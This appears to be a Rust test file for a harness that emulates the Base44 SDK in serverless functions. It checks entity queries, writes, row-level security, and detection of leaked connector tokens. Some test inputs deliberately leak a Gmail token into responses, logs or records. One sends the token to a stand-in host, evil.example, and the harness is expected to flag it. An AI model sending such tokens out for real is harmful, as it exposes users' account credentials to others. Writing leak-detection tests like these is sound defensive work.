//! The SDK as functions know it.

use serde_json::{Value, json};

use super::super::{call, eval, of, run_all};

#[test]
fn entities_are_read_filtered_sorted_and_paged() {
    assert_eq!(
        eval("(async () => (await base44.asServiceRole.entities.Booking.list()).length)()"),
        json!(3)
    );
    assert_eq!(
        eval(
            "(async () => (await base44.asServiceRole.entities.Booking.filter({ status: 'confirmed' })).map((b) => b.client_name))()"
        ),
        json!(["Søren Łukasz 山田"])
    );
    assert_eq!(
        eval(
            "(async () => (await base44.asServiceRole.entities.Booking.filter({ status: ['requested', 'cancelled'] }, 'price')).map((b) => b.price))()"
        ),
        json!([120, 240])
    );
    assert_eq!(
        eval(
            "(async () => (await base44.asServiceRole.entities.Booking.list('-price', 1, 1, ['price'])).map((b) => Object.keys(b)))()"
        ),
        json!([["id", "price"]])
    );
    assert_eq!(
        eval(
            "(async () => { const p = await base44.asServiceRole.entities.Booking.list({ limit: 2 }); const q = await base44.asServiceRole.entities.Booking.list({ limit: 2, cursor: p.next_cursor }); return [p.items.length, p.has_more, q.items.length, q.has_more]; })()"
        ),
        json!([2, true, 1, false])
    );
    assert_eq!(
        eval("base44.asServiceRole.entities.Booking.count({ price: { $gte: 100 } })"),
        json!(2)
    );
    assert_eq!(
        eval(
            "(async () => { const b = (await base44.asServiceRole.entities.Booking.list())[0]; return (await base44.asServiceRole.entities.Client.get(b.client_id)).name; })()"
        ),
        json!("Mara Vogel")
    );
}

#[test]
fn missing_records_are_errors_like_the_sdks() {
    assert_eq!(
        eval(
            "base44.entities.Booking.get('nope').catch((e) => [e.name, e.status, e.message, e instanceof Error, e.data.detail])"
        ),
        json!([
            "Base44Error",
            404,
            "Entity Booking with ID nope not found",
            true,
            "Entity Booking with ID nope not found"
        ])
    );
    assert_eq!(
        eval("base44.asServiceRole.entities.Client.create({ name: 'x' }).catch((e) => [e.status, e.message])"),
        json!([422, "Error in field email: Field required"])
    );
}

#[test]
fn writes_are_kept_and_seen_by_later_reads() {
    let done = call(
        "const e = base44.asServiceRole.entities.Task; const made = await e.create({ title: 'new' }); await e.update(made.id, { done: true }); const again = await e.get(made.id); await e.updateMany({ done: true }, { $set: { title: 't' } }); await e.bulkCreate([{ title: 'a' }, { title: 'b' }]); await e.delete(made.id); const n = await e.deleteMany({ title: 'a' }); return Response.json([made.id.length, again.done, n.deleted, await e.count()]);",
    );
    assert_eq!(done.answer, "[24,true,1,4]", "{done:?}");
    let methods: Vec<&str> = done.writes.iter().map(|w| w.method.as_str()).collect();
    assert_eq!(
        methods,
        [
            "create",
            "update",
            "updateMany",
            "bulkCreate",
            "bulkCreate",
            "delete",
            "deleteMany"
        ]
    );
    assert_eq!(done.writes[1].data, json!({"done": true}));
    assert_eq!(done.writes[1].id, done.writes[5].id);
}

#[test]
fn identity_and_row_level_security() {
    let source = "import { createClientFromRequest } from 'npm:@base44/sdk@0.8.31'; Deno.serve(async (req) => { const b = createClientFromRequest(req); return Response.json([await b.auth.isAuthenticated(), await b.auth.me().then((u) => [u.role, u.email.includes('@')], (e) => e.status), (await b.entities.Task.list()).length, (await b.asServiceRole.entities.Task.list()).length]); });";
    let all = run_all(source, |_| {});
    assert_eq!(of(&all, "anonymous").answer, "[false,401,0,3]");
    assert_eq!(of(&all, "user").answer, "[true,[\"user\",true],2,3]");
    assert_eq!(of(&all, "admin").answer, "[true,[\"admin\",true],3,3]");
}

#[test]
fn connections_are_for_the_service_role_and_tokens_stay_hidden() {
    assert_eq!(eval("base44.connectors.getConnection === undefined"), json!(true));
    assert_eq!(
        eval(
            "(async () => { const c = await base44.asServiceRole.connectors.getConnection('gmail'); return [typeof c.accessToken, c.connectionConfig, c.accessToken === await base44.asServiceRole.connectors.getAccessToken('gmail'), c.accessToken === await base44.asServiceRole.connectors.getCurrentAppUserAccessToken('6f')]; })()"
        ),
        json!(["string", null, true, false])
    );
    let leak = call(
        "const { accessToken } = await base44.asServiceRole.connectors.getConnection('gmail'); return Response.json({ debug: accessToken });",
    );
    assert_eq!(leak.problem.as_deref(), Some("The token of gmail is in the answer."));
    assert_eq!(leak.answer, "{\"debug\":\"‹token of gmail›\"}");
    let folded = call(
        "const { accessToken } = await base44.asServiceRole.connectors.getConnection('gmail'); return Response.json({ debug: btoa('x' + accessToken) });",
    );
    assert_eq!(folded.problem.as_deref(), Some("The token of gmail is in the answer."));
    let logged = call(
        "console.log('got', await base44.asServiceRole.connectors.getConnection('gmail')); return new Response('');",
    );
    assert_eq!(
        logged.problem.as_deref(),
        Some("The token of gmail is printed to the console.")
    );
    assert!(logged.console[0].contains("‹token of gmail›"));
    let kept = call(
        "const { accessToken } = await base44.asServiceRole.connectors.getConnection('gmail'); await base44.asServiceRole.entities.Task.create({ title: accessToken }); return new Response('');",
    );
    assert_eq!(kept.problem.as_deref(), Some("The token of gmail is written to Task."));
    assert_eq!(kept.writes[0].data, json!({"title": "‹token of gmail›"}));
    let echoed = call("return Response.json(Object.fromEntries(req.headers));");
    assert!(
        echoed.problem.as_deref().unwrap().contains("token is in the answer"),
        "{echoed:?}"
    );
    for r in [&leak, &logged, &kept, &echoed] {
        assert!(
            !serde_json::to_string(r).unwrap().contains("rehearsalgmailToken"),
            "{r:?}"
        );
        assert!(
            !serde_json::to_string(r).unwrap().contains("rehearsalServiceToken"),
            "{r:?}"
        );
    }
}

#[test]
fn a_token_that_goes_elsewhere_is_named() {
    let away = call(
        "const { accessToken } = await base44.asServiceRole.connectors.getConnection('gmail'); await fetch('https://evil.example/x?t=' + accessToken, { headers: { authorization: 'Bearer ' + accessToken } }); return new Response('');",
    );
    let problem = away.problem.as_deref().unwrap();
    assert!(problem.contains("evil.example"), "{problem}");
    assert_eq!(away.requests[0].url, "https://evil.example/x?t=‹token of gmail›");
    assert_eq!(away.requests[0].status, 404);
    let cross = call(
        "const { accessToken } = await base44.asServiceRole.connectors.getConnection('gmail'); await fetch('https://slack.com/api/chat.postMessage', { method: 'POST', headers: { authorization: 'Bearer ' + accessToken }, body: '{}' }); return new Response('');",
    );
    assert_eq!(
        cross.problem.as_deref(),
        Some("The token of gmail is sent to slack.com, which is not Gmail's."),
        "{cross:?}"
    );
}

#[test]
fn calls_through_the_platform_are_recorded() {
    let done = call(
        "const mail = await base44.asServiceRole.connectors.callApi('gmail', { method: 'GET', path: '/gmail/v1/users/me/messages', query: { q: 'is:unread' } }); const x = await base44.functions.invoke('other', { a: 1 }); await base44.integrations.Core.SendEmail({ to: 'a@example.org', subject: 's', body: 'b' }); const llm = await base44.integrations.Core.InvokeLLM({ prompt: 'p', response_json_schema: { type: 'object', properties: { n: { type: 'number' } } } }); return Response.json([mail.success, mail.data.messages.length, x.status, llm]);",
    );
    assert_eq!(done.answer, "[true,2,200,{\"n\":1}]", "{done:?}");
    let urls: Vec<&str> = done.requests.iter().map(|r| r.url.as_str()).collect();
    assert_eq!(
        urls,
        [
            "https://gmail.googleapis.com/gmail/v1/users/me/messages?q=is%3Aunread",
            "base44:functions/other",
            "base44:integrations/Core/SendEmail",
            "base44:integrations/Core/InvokeLLM"
        ]
    );
    assert_eq!(done.requests[0].headers["authorization"], "Bearer ‹token of gmail›");
    assert!(done.ok, "{done:?}");
}

#[test]
fn an_entity_that_is_not_there_is_named() {
    let done = call("try { await base44.entities.Bookings.list(); } catch {} return new Response('');");
    assert_eq!(
        done.problem.as_deref(),
        Some("There is no entity Bookings in this app.")
    );
}

#[test]
fn the_client_wants_the_platforms_headers() {
    assert_eq!(
        eval(
            "(() => { try { createClientFromRequest(new Request('https://a.b')); } catch (e) { return e.message; } })()"
        ),
        json!("Base44-App-Id header is required, but is was not found on the request")
    );
    assert_eq!(
        eval(
            "(() => { try { createClientFromRequest(new Request('https://a.b', { headers: { 'base44-app-id': 'x' } })).asServiceRole; } catch (e) { return e.message.slice(0, 44); } })()"
        ),
        json!("Service token is required to use asServiceRo")
    );
    let _: Value = eval("1");
}
